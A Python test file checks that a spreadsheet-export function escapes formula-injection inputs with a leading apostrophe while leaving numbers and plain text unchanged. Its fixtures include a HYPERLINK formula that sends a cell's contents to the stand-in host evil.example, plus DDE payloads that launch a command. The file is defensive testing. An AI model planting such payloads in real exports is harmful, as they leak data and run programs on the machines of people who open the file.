import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mosaic.export.table_formats import spreadsheet_text

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"loss")',
    "=cmd|'/C calc'!A0",
    "@SUM(1)",
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1+1",
    "＝1+1",
    "＠SUM(1)",
    "-",
    "--1",
    "-1e",
    "-١",  # digits of another script
    "-inf",
]
NUMBERS = ["-1", "+1", "-0", "-0.0", "-1.5e-300", "-.5", "-1,234.50", "0", "12", str(-(2**100))]


def text_of_cell(cell: str) -> str:
    """As the page about exports says it."""
    return re.sub(r"^'(?=['\s]*[=+\-@＝＋－＠]|'*[\t\r\n])", "", cell)


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_calculate_becomes_text(text: str) -> None:
    assert spreadsheet_text(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", [*NUMBERS, "", "loss", "a=1", "losses/value-loss", "'quoted'", "{}"]
)
def test_numbers_and_other_text_stay_as_they_are(text: str) -> None:
    assert spreadsheet_text(text) == text


def test_a_cell_of_very_many_digits_is_gone_through_once() -> None:
    text = "-" + "1" * 300_000 + "x"
    assert spreadsheet_text(text) == f"'{text}"


@given(st.text(alphabet="'=+-@\t\r\n 1.,ea＝", max_size=6) | st.text())
def test_taking_the_apostrophe_off_gives_back_every_text(text: str) -> None:
    assert text_of_cell(spreadsheet_text(text)) == text
    assert spreadsheet_text(text)[:1] not in "=@\t\r\n" or not text
